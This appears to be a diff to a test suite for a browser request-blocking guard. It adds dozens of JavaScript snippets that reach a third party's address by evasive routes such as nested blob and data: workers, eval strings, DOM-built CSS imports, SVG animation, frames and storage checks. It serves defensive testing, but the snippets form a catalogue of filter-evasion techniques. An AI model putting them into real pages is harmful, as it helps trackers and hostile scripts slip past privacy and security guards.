@@ -2,7 +2,9 @@
 
 A case runs as a function in its realm. ``u(ending)`` makes the address, joined at run time so that no filter on text
 could find it; ``d`` is the document, ``b`` its body, ``put(el)`` appends to the body, ``make(tag, attributes)``
-creates, ``blank()`` inserts a blank frame and returns its window, ``quoted(s)`` writes a string as JavaScript.
+creates, ``blank()`` inserts a blank frame and returns its window, ``quoted(s)`` writes a string as JavaScript,
+``work(script, options)`` starts a worker from a blob, ``job(script)`` is a message that has a worker of the site run it. ``vendor``
+is the first part of the host's name, and ``tell()`` says to the third party's server that something was kept.
 Add a line before you add a branch to the guard.
 """
 
@@ -91,6 +93,36 @@ CHANNELS: tuple[Channel, ...] = (
             "worker from base64",
             "new Worker('data:text/javascript;base64,' + btoa('fetch(' + quoted(u('txt')) + ')'))",
         ),
+        ("worker of the site", "new Worker('/worker.js').postMessage(job('fetch(' + quoted(u('txt')) + ')'))"),
+        (
+            "module worker of the site",
+            "new Worker('/worker.js', {type:'module'}).postMessage(job('fetch(' + quoted(u('txt')) + ')'))",
+        ),
+        (
+            "worker from a blob in a worker from a blob",
+            "work('new Worker(URL.createObjectURL(new Blob([' + quoted('fetch(' + quoted(u('txt')) + ')') + '])))')",
+        ),
+        (
+            "worker from a data: address in another",
+            "new Worker('data:text/javascript,' + encodeURIComponent('new Worker(\"data:text/javascript,\" + encodeURIComponent(' + quoted('fetch(' + quoted(u('txt')) + ')') + '))'))",
+        ),
+        ("importScripts in a worker from a blob", "work('importScripts(' + quoted(u('js')) + ')')"),
+        (
+            "importScripts of a blob that calls importScripts",
+            "work('importScripts(URL.createObjectURL(new Blob([' + quoted('importScripts(' + quoted(u('js')) + ')') + '])))')",
+        ),
+        (
+            "module worker from a blob that imports a blob, static import",
+            "work('import ' + quoted(URL.createObjectURL(new Blob(['import ' + quoted(u('js'))], {type:'text/javascript'}))), {type:'module'})",
+        ),
+        ("FontFace", "new FontFace('z', 'url(' + u('txt') + ')').load().catch(function(){})"),
+        (
+            "fetch of a cloned Request",
+            "fetch(new Request(new Request(u('txt')), {method:'POST'}).clone()).catch(function(){})",
+        ),
+        ("fetch in a string for eval", "(0, eval)('fetch(' + quoted(u('txt')) + ').catch(function(){})')"),
+        ("fetch in a string for setTimeout", "setTimeout('fetch(' + quoted(u('txt')) + ').catch(function(){})', 0)"),
+        ("fetch in a string for Function", "new Function('a', 'fetch(a).catch(function(){})')(u('txt'))"),
     ),
     *rows(
         "guard",
@@ -105,6 +137,23 @@ CHANNELS: tuple[Channel, ...] = (
         (
             "shared worker from a blob",
             "new SharedWorker(URL.createObjectURL(new Blob(['fetch(' + quoted(u('txt')) + ')'])))",
+        ),
+        (
+            "importScripts in a shared worker from a blob",
+            "new SharedWorker(URL.createObjectURL(new Blob(['importScripts(' + quoted(u('js')) + ')'])))",
+        ),
+        ("fetchLater", "fetchLater(u('txt'), {activateAfter:0})"),
+        (
+            "fetch in a script element's text",
+            "put(make('script', {text:'fetch(' + quoted(u('txt')) + ').catch(function(){})'}))",
+        ),
+        (
+            "fetch on a message",
+            "addEventListener('message', function(e){ if (e.data === id) fetch(u('txt')).catch(function(){}) }); postMessage(id, '*')",
+        ),
+        (
+            "FedCM",
+            "navigator.credentials.get({identity:{providers:[{configURL:u('txt'), clientId:'x'}]}}).catch(function(){})",
         ),
         ("new Image", "new Image().src = u('gif')"),
         ("img, src by property", "make('img').src = u('gif')"),
@@ -123,6 +172,18 @@ CHANNELS: tuple[Channel, ...] = (
         (
             "img, src by Attr.textContent",
             "var i = make('img', {src:'/e.gif'}); i.attributes[0].textContent = u('gif')",
+        ),
+        (
+            "img, src made by toggleAttribute",
+            "var i = make('img'); i.toggleAttribute('src', true); i.attributes.src.value = u('gif')",
+        ),
+        (
+            "link, href taken from an a",
+            "var a = make('a', {href:u('css')}), l = make('link', {rel:'stylesheet'}); l.setAttributeNode(a.removeAttributeNode(a.attributes.href)); put(l)",
+        ),
+        (
+            "table cell, background by setAttribute",
+            "var t = put(make('table')); t.innerHTML = '<tr><td>x</td></tr>'; t.querySelector('td').setAttribute('background', u('gif'))",
         ),
         ("img, srcset", "make('img').srcset = '/e.gif 0.1x, ' + u('gif') + ' 1x'"),
         ("img, address without its scheme", "make('img').src = u('gif').slice(5)"),
@@ -164,6 +225,18 @@ CHANNELS: tuple[Channel, ...] = (
             "put(make('link', {rel:'preload', as:'image', imagesrcset:u('gif')+' 1x'}))",
         ),
         ("link, modulepreload", "put(make('link', {rel:'modulepreload', href:u('js')}))"),
+        (
+            "module script from a blob, static import",
+            "put(make('script', {type:'module', src:URL.createObjectURL(new Blob(['import ' + quoted(u('js'))], {type:'text/javascript'}))}))",
+        ),
+        (
+            "module script from a data: address, static import",
+            "put(make('script', {type:'module', src:'data:text/javascript,' + encodeURIComponent('import ' + quoted(u('js')))}))",
+        ),
+        (
+            "import() of a blob with a static import",
+            "import(URL.createObjectURL(new Blob(['import ' + quoted(u('js'))], {type:'text/javascript'}))).catch(function(){})",
+        ),
         ("link, prefetch", "put(make('link', {rel:'prefetch', href:u('txt')}))"),
         ("style, @import", "var s = make('style'); s.textContent = '@import ' + quoted(u('css')); put(s)"),
         (
@@ -183,6 +256,59 @@ CHANNELS: tuple[Channel, ...] = (
             "var s = put(make('style')), t = d.createTextNode('@import '); s.append(t); t.appendData(quoted(u('css')))",
         ),
         ("style, innerHTML", "put(make('style')).innerHTML = '@import ' + quoted(u('css'))"),
+        (
+            "style, insertAdjacentHTML",
+            "put(make('style')).insertAdjacentHTML('beforeend', '@import ' + quoted(u('css')))",
+        ),
+        ("style, setHTMLUnsafe", "put(make('style')).setHTMLUnsafe('@import ' + quoted(u('css')))"),
+        (
+            "style, insertAdjacentText",
+            "put(make('style')).insertAdjacentText('beforeend', '@import ' + quoted(u('css')))",
+        ),
+        (
+            "style, text beside text",
+            "var s = put(make('style')); s.append('/**/'); s.firstChild.before('@import ' + quoted(u('css')) + ';')",
+        ),
+        (
+            "style, text in place of text",
+            "var s = put(make('style')); s.textContent = 'x{}'; s.firstChild.replaceWith('@import ' + quoted(u('css')))",
+        ),
+        (
+            "style, text beside an element",
+            "var s = put(make('style')); s.append(make('b')); s.firstChild.after('@import ' + quoted(u('css')))",
+        ),
+        (
+            "style, text by a Range",
+            "var s = put(make('style')), r = d.createRange(); r.selectNodeContents(s); r.insertNode(d.createTextNode('@import ' + quoted(u('css'))))",
+        ),
+        (
+            "style, fragment",
+            "var f = d.createDocumentFragment(); f.append('@import ' + quoted(u('css'))); put(make('style')).append(f)",
+        ),
+        (
+            "style, appendChild of Node.prototype",
+            "var s = make('style'); Node.prototype.appendChild.call(s, d.createTextNode('@import ' + quoted(u('css')))); put(s)",
+        ),
+        (
+            "style, textContent of Node.prototype",
+            "var s = make('style'); Object.getOwnPropertyDescriptor(Node.prototype, 'textContent').set.call(s, '@import ' + quoted(u('css'))); put(s)",
+        ),
+        (
+            "style, appendChild borrowed from a blank frame",
+            "var s = make('style'); blank().Node.prototype.appendChild.call(s, d.createTextNode('@import ' + quoted(u('css')))); put(s)",
+        ),
+        (
+            "style, under a prefix",
+            "var s = d.createElementNS('http://www.w3.org/1999/xhtml', 'x:style'); s.append('@import ' + quoted(u('css'))); put(s)",
+        ),
+        (
+            "xml-stylesheet instruction",
+            "d.insertBefore(d.createProcessingInstruction('xml-stylesheet', 'type=\"text/css\" href=\"' + u('css') + '\"'), d.documentElement)",
+        ),
+        (
+            "xml-stylesheet instruction, data set later",
+            "var i = d.insertBefore(d.createProcessingInstruction('xml-stylesheet', ''), d.documentElement); i.data = 'type=\"text/css\" href=\"' + u('css') + '\"'",
+        ),
         (
             "style, escaped keyword",
             "put(make('p')).className = 'esc'; put(make('style')).textContent = '.esc{background:\\\\75 rl(' + u('gif') + ')}'",
@@ -210,10 +336,26 @@ CHANNELS: tuple[Channel, ...] = (
             "custom property",
             "var p = put(make('p')); p.style.setProperty('--x', 'url(' + u('gif') + ')'); p.style.background = 'var(--x)'",
         ),
+        (
+            "custom property, registered with an image",
+            "CSS.registerProperty({name:'--rp', syntax:'<image>', inherits:false, initialValue:'url(' + u('gif') + ')'}); put(make('p')).style.background = 'var(--rp)'",
+        ),
+        (
+            "custom property, @property with an image",
+            "put(make('style')).textContent = '@property --rq{syntax:\"<image>\";inherits:false;initial-value:url(' + u('gif') + ')}'; put(make('p')).style.background = 'var(--rq)'",
+        ),
+        (
+            "custom property, string for image-set",
+            "var p = put(make('p')); p.style.setProperty('--v', quoted(u('gif'))); p.style.background = 'image-set(var(--v) 1x)'",
+        ),
         ("style.cssText", "put(make('p')).style.cssText = 'background:url(' + u('gif') + ')'"),
         ("style attribute", "put(make('p')).setAttribute('style', 'background:url(' + u('gif') + ')')"),
         ("style assigned", "put(make('p')).style = 'background:url(' + u('gif') + ')'"),
         ("attributeStyleMap", "put(make('p')).attributeStyleMap.set('background-image', 'url(' + u('gif') + ')')"),
+        (
+            "attributeStyleMap, CSSUnparsedValue",
+            "put(make('p')).attributeStyleMap.set('background-image', new CSSUnparsedValue(['url(' + u('gif') + ')']))",
+        ),
         (
             "insertRule",
             "put(make('p')).className = 'ir'; var s = put(make('style')); s.sheet.insertRule('.ir{background:url(' + u('gif') + ')}')",
@@ -231,6 +373,14 @@ CHANNELS: tuple[Channel, ...] = (
             "put(make('p')).className = 'rs'; var s = put(make('style')); s.textContent = '.rs{}'; s.sheet.cssRules[0].style.backgroundImage = 'url(' + u('gif') + ')'",
         ),
         (
+            "rule.style of @font-face",
+            "var s = put(make('style')); s.textContent = '@font-face{font-family:fr}'; s.sheet.cssRules[0].style.setProperty('src', 'url(' + u('txt') + ')'); put(make('p', {style:'font-family:fr'})).textContent = 'x'",
+        ),
+        (
+            "rule.style of a keyframe",
+            "var s = put(make('style')); s.textContent = '@keyframes kf{from{} to{}}'; s.sheet.cssRules[0].cssRules[0].style.backgroundImage = 'url(' + u('gif') + ')'; put(make('p')).style.animation = 'kf 5s'",
+        ),
+        (
             "adoptedStyleSheets, replaceSync",
             "put(make('p')).className = 'as'; var s = new CSSStyleSheet; s.replaceSync('.as{background:url(' + u('gif') + ')}'); d.adoptedStyleSheets = [s]",
         ),
@@ -246,7 +396,6 @@ CHANNELS: tuple[Channel, ...] = (
             "animate",
             "put(make('p')).animate([{backgroundImage:'url(' + u('gif') + ')'}, {backgroundImage:'none'}], 5000)",
         ),
-        ("FontFace", "new FontFace('z', 'url(' + u('txt') + ')').load().catch(function(){})"),
         ("innerHTML, img", "put(make('div')).innerHTML = '<img src=' + u('gif') + '>'"),
         (
             "innerHTML, img before insertion",
@@ -331,6 +480,10 @@ CHANNELS: tuple[Channel, ...] = (
         ),
         ("parseHTMLUnsafe", "b.append(Document.parseHTMLUnsafe('<img src=' + u('gif') + '>').body.firstChild)"),
         (
+            "inert document, innerHTML",
+            "var x = d.implementation.createHTMLDocument(''); x.body.innerHTML = '<img src=' + u('gif') + '>'; b.append(d.adoptNode(x.body.firstChild))",
+        ),
+        (
             "inert document",
             "var i = d.implementation.createHTMLDocument('').createElement('img'); i.src = u('gif'); b.append(i)",
         ),
@@ -349,6 +502,22 @@ CHANNELS: tuple[Channel, ...] = (
         (
             "SVG image, href.baseVal",
             "var s = put(d.createElementNS('http://www.w3.org/2000/svg', 'svg')), i = d.createElementNS('http://www.w3.org/2000/svg', 'image'); s.append(i); i.href.baseVal = u('gif')",
+        ),
+        (
+            "SVG animate, one of several values",
+            "put(make('div')).innerHTML = '<svg><image href=/e.gif width=9 height=9><animate attributeName=href values=\"/e.gif;' + u('gif') + '\" dur=\".1s\" fill=freeze /></image></svg>'",
+        ),
+        (
+            "SVG set, by setAttribute",
+            "var h = put(make('div')); h.innerHTML = '<svg><image href=/e.gif width=9 height=9><set attributeName=href /></image></svg>'; h.querySelector('set').setAttribute('to', u('gif'))",
+        ),
+        (
+            "SVG set, of a style property",
+            "put(make('div')).innerHTML = '<svg width=9 height=9><rect width=9 height=9><set attributeName=mask to=\"url(' + u('svg') + '#a)\" /></rect></svg>'",
+        ),
+        (
+            "SVG mask attribute",
+            "put(make('div')).innerHTML = '<svg width=9 height=9><rect width=9 height=9 mask=\"url(' + u('svg') + '#a)\" /></svg>'",
         ),
         (
             "SVG feImage",
@@ -373,6 +542,43 @@ CHANNELS: tuple[Channel, ...] = (
         (
             "form in a shadow tree",
             "put(make('iframe', {name:'t4'})); var r = put(make('div')).attachShadow({mode:'closed'}), f = make('form', {action:u('html'), target:'t4'}); r.append(f); f.requestSubmit()",
+        ),
+        (
+            "submit event kept from the document",
+            "addEventListener('submit', function(e){ if (e.target.target === 't6') e.stopImmediatePropagation() }, true); put(make('iframe', {name:'t6'})); put(make('form', {action:u('html'), target:'t6'})).requestSubmit()",
+        ),
+        (
+            "form in a declarative shadow tree",
+            "put(make('iframe', {name:'t7'})); var h = put(make('div')); h.setHTMLUnsafe('<div><template shadowrootmode=open><form target=t7></form></template></div>'); var f = h.firstChild.shadowRoot.firstChild; f.action = u('html'); f.requestSubmit()",
+        ),
+        (
+            "button of a form in a declarative shadow tree",
+            "put(make('iframe', {name:'t8'})); var h = put(make('div')); h.setHTMLUnsafe('<div><template shadowrootmode=open><form target=t8><button>x</button></form></template></div>'); var f = h.firstChild.shadowRoot.firstChild; f.action = u('html'); f.firstChild.click()",
+        ),
+        (
+            "a, click into a frame",
+            "put(make('iframe', {name:'t9'})); put(make('a', {href:u('html'), target:'t9'})).click()",
+        ),
+        (
+            "a, click into a frame, of none in the document",
+            "put(make('iframe', {name:'t10'})); make('a', {href:u('html'), target:'t10'}).click()",
+        ),
+        (
+            "a, click into a frame, dispatched to a child",
+            "put(make('iframe', {name:'t11'})); var a = put(make('a', {href:u('html'), target:'t11'})); a.append(make('b')); a.firstChild.dispatchEvent(new MouseEvent('click', {bubbles:true}))",
+        ),
+        (
+            "a of SVG, click into a frame",
+            "put(make('iframe', {name:'t12'})); var a = d.createElementNS('http://www.w3.org/2000/svg', 'a'); a.setAttribute('href', u('html')); a.setAttribute('target', 't12'); put(d.createElementNS('http://www.w3.org/2000/svg', 'svg')).append(a); a.dispatchEvent(new MouseEvent('click', {bubbles:true}))",
+        ),
+        (
+            "area, click into a frame",
+            "put(make('iframe', {name:'t13'})); put(make('area', {href:u('html'), target:'t13'})).click()",
+        ),
+        ("window.open into a frame", "put(make('iframe', {name:'t14'})); open(u('html'), 't14')"),
+        (
+            "document.open with three arguments",
+            "var w = d.open(u('html'), '_blank', 'x'); setTimeout(function(){ w && w.close() }, 1500)",
         ),
         ("window.open", "var w = open(u('html')); setTimeout(function(){ w && w.close() }, 1500)"),
         (
@@ -427,6 +633,14 @@ CHANNELS: tuple[Channel, ...] = (
             "javascript: frame",
             "put(make('iframe', {src:'javascript:void new Image().__defineGetter__(0,()=>0)||void(new Image().src=' + quoted(u('gif')) + ')'}))",
         ),
+        (
+            "javascript: frame, markup",
+            "put(make('iframe', {src:'javascript:' + quoted('<img src=' + u('gif') + '>')}))",
+        ),
+        (
+            "javascript: frame, markup with a script",
+            "put(make('iframe', {src:'javascript:' + quoted('<script>fetch(' + quoted(u('txt')) + ')</scr' + 'ipt>')}))",
+        ),
         ("srcdoc, markup", "put(make('iframe')).srcdoc = '<!doctype html><img src=\"' + u('gif') + '\">'"),
         (
             "srcdoc, script",
@@ -449,6 +663,34 @@ CHANNELS: tuple[Channel, ...] = (
             "put(make('iframe', {src:URL.createObjectURL(new Blob(['<script>new Image().src=' + quoted(u('gif')) + '</scr' + 'ipt>'], {type:'text/html'}))}))",
         ),
         (
+            "blob: frame, SVG",
+            "put(make('iframe', {src:URL.createObjectURL(new Blob(['<svg xmlns=\"http://www.w3.org/2000/svg\"><image href=\"' + u('gif') + '\" width=\"9\" height=\"9\"/></svg>'], {type:'image/svg+xml'}))}))",
+        ),
+        (
+            "blob: frame, script in SVG",
+            "put(make('iframe', {src:URL.createObjectURL(new Blob(['<svg xmlns=\"http://www.w3.org/2000/svg\"><script>fetch(' + quoted(u('txt')) + ')</scr' + 'ipt></svg>'], {type:'image/svg+xml'}))}))",
+        ),
+        (
+            "blob: frame, script in XHTML",
+            "put(make('iframe', {src:URL.createObjectURL(new Blob(['<html xmlns=\"http://www.w3.org/1999/xhtml\"><head><script>fetch(' + quoted(u('txt')) + ')</scr' + 'ipt></head></html>'], {type:'application/xhtml+xml'}))}))",
+        ),
+        (
+            "data: frame, script in SVG",
+            "put(make('iframe', {src:'data:image/svg+xml,' + encodeURIComponent('<svg xmlns=\"http://www.w3.org/2000/svg\"><script>fetch(' + quoted(u('txt')) + ')</scr' + 'ipt></svg>')}))",
+        ),
+        (
+            "frame of the site, fetch",
+            "var f = make('iframe', {src:'/frame.html'}); f.onload = function(){ f.contentWindow.fetch(u('txt')).catch(function(){}) }; put(f)",
+        ),
+        (
+            "location.replace of a frame of the site",
+            "var f = make('iframe', {src:'/frame.html'}); f.onload = function(){ f.onload = null; f.contentWindow.location.replace(u('html')) }; put(f)",
+        ),
+        (
+            "navigation.navigate of a frame of the site",
+            "var f = make('iframe', {src:'/frame.html'}); f.onload = function(){ f.onload = null; var r = f.contentWindow.navigation.navigate(u('html')); r.committed.catch(function(){}); r.finished.catch(function(){}) }; put(f)",
+        ),
+        (
             "location of a frame of the site",
             "var f = make('iframe', {src:'/frame.html'}); f.onload = function(){ f.onload = null; f.contentWindow.location.href = u('html') }; put(f)",
         ),
@@ -461,6 +703,28 @@ CHANNELS: tuple[Channel, ...] = (
             "var f = make('iframe', {src:'/frame.html'}); f.onload = function(){ f.onload = null; f.contentDocument.head.innerHTML = '<meta http-equiv=refresh content=\"0;url=' + u('html') + '\">' }; put(f)",
         ),
         ("worklet", "CSS.paintWorklet.addModule(u('js')).catch(function(){})"),
+        ("worklet, audio", "new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule(u('js')).catch(function(){})"),
+        (
+            "worklet from a blob, static import",
+            "CSS.paintWorklet.addModule(URL.createObjectURL(new Blob(['import ' + quoted(u('js'))], {type:'text/javascript'}))).catch(function(){})",
+        ),
+        (
+            "worklet from a data: address, static import",
+            "CSS.paintWorklet.addModule('data:text/javascript,' + encodeURIComponent('import ' + quoted(u('js')))).catch(function(){})",
+        ),
+        ("document.cookie", "var n = vendor + '_a' + port; d.cookie = n + '=1'; if (d.cookie.includes(n)) tell()"),
+        (
+            "cookieStore",
+            "var n = vendor + '_b' + port; cookieStore.set(n, '1').then(function(){ return cookieStore.get(n) }).then(function(c){ if (c) tell() })",
+        ),
+        (
+            "localStorage",
+            "var n = vendor + '_c' + port; localStorage.setItem(n, '1'); if (localStorage.getItem(n)) tell()",
+        ),
+        (
+            "sessionStorage",
+            "var n = vendor + '_c' + port; sessionStorage.setItem(n, '1'); if (sessionStorage.getItem(n)) tell()",
+        ),
         (
             "page's own override of natives",
             "var w = blank(); w.String.prototype.indexOf = w.String.prototype.split = w.RegExp.prototype.exec = w.RegExp.prototype.test = function(){ return null }; w.fetch(u('txt')).catch(function(){})",
@@ -472,6 +736,18 @@ CHANNELS: tuple[Channel, ...] = (
         "var p = new RTCPeerConnection({iceServers:[{urls:'turn:' + u('txt').split('/')[2] + '?transport=tcp', username:'x', credential:'x'}]}); p.createDataChannel('x'); p.createOffer().then(function(o){ p.setLocalDescription(o) })",
         (PAGE,),
         raw=True,
+    ),
+    *rows(
+        "guard",
+        (PAGE,),
+        (
+            "custom element",
+            "customElements.define('x-x', class extends HTMLElement { connectedCallback() { this.innerHTML = '<img src=' + u('gif') + '>' } }); put(make('x-x'))",
+        ),
+        (
+            "blank frame, navigation.navigate",
+            "var r = blank().navigation.navigate(u('html')); r.committed.catch(function(){}); r.finished.catch(function(){})",
+        ),
     ),
     *rows(
         "import map",
@@ -488,16 +764,33 @@ CHANNELS: tuple[Channel, ...] = (
         unprovable="Chromium prefetches nothing when its background networking is off, as in this run",
     ),
     Channel(
+        "WebTransport",
+        "new WebTransport(u('txt').replace('http', 'https')).ready.catch(function(){})",
+        EVERYWHERE,
+        unprovable="it speaks QUIC over UDP, which is off in this run",
+    ),
+    Channel(
         "import() in a worker",
         "import(u('js')).catch(function(){})",
         (WORKER,),
         open_because="import maps do not apply in workers and import() cannot be wrapped: a CSP stops it",
     ),
     Channel(
+        "module worker from a blob, import() of a joined address",
+        "var a = u('js'); work('import(' + quoted(a.slice(0, 9)) + '+' + quoted(a.slice(9)) + ')', {type:'module'})",
+        EVERYWHERE,
+        open_because="the same",
+    ),
+    Channel(
         "import() in a blank frame",
         "import(u('js')).catch(function(){})",
         (FRAME,),
         open_because="a blank frame has no import map; a CSP stops it",
+    ),
+    Channel(
+        "frame of the site while it loads, by index",
+        "put(make('iframe', {src:'/frame.html'})); window[window.length - 1].fetch(u('txt')).catch(function(){})",
+        open_because="until it has loaded no event tells of its first window; contentWindow is guarded, an index cannot be",
     ),
     Channel(
         "blank frame, markup from a javascript: location",
@@ -510,6 +803,10 @@ CHANNELS: tuple[Channel, ...] = (
         "var w = blank(); w.location.href = u('html')",
         DOCUMENTS,
         open_because="the same; stopped in strict mode by the brake, and by a CSP's frame-src",
+    ),
+    Channel(
+        "a, click into a new tab",
+        "make('a', {href:u('html'), target:'_blank'}).click()",
     ),
     Channel(
         "window.open, then its location",
